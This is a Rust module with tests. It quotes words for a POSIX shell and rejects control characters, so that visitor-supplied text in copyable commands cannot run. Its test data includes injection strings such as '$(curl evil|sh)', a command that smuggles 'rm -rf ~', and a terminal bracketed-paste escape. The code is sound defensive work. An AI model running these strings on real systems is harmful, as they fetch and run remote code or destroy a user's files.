//! Commands to copy from a page: what a visitor or a filer wrote stands in them as a word, and a shell runs none of it.

/// A word as a POSIX shell takes it as it stands, whatever it holds.
pub(super) fn quoted(word: &str) -> String {
    format!("'{}'", word.replace('\'', r"'\''"))
}

/// Whether a word may be pasted into a terminal, which may take control characters for keys that are pressed.
pub(super) fn is_pasted_safely(word: &str) -> bool {
    !word.contains(char::is_control)
}

#[cfg(test)]
mod tests {
    use expect_test::expect;

    use super::{is_pasted_safely, quoted};

    #[test]
    fn a_word_is_quoted_whole() {
        let words = ["mx/fgr", "Sheriff's Office", "$(curl evil|sh)", "'; rm -rf ~; echo '", r"`id` \ !! $HOME", ""];
        expect![[r#"
            'mx/fgr'
            'Sheriff'\''s Office'
            '$(curl evil|sh)'
            ''\''; rm -rf ~; echo '\'''
            '`id` \ !! $HOME'
            ''"#]]
        .assert_eq(&words.map(quoted).join("\n"));
    }

    #[test]
    fn a_shell_reads_the_word_that_was_quoted() {
        for word in ["Sheriff's Office", "$(echo run)", "'; echo run; echo '", r"`id` \ !! $HOME", "''", "-n"] {
            let line = format!("printf %s {}", quoted(word));
            let out = std::process::Command::new("sh").args(["-c", &line]).output().unwrap();
            assert_eq!(String::from_utf8(out.stdout).unwrap(), word);
        }
    }

    #[test]
    fn no_word_presses_keys() {
        assert!(is_pasted_safely("Policía de São Paulo"));
        assert!(["a\nid\n", "a\u{1b}[201~id", "a\u{9b}x", "\t"].into_iter().all(|word| !is_pasted_safely(word)));
    }
}
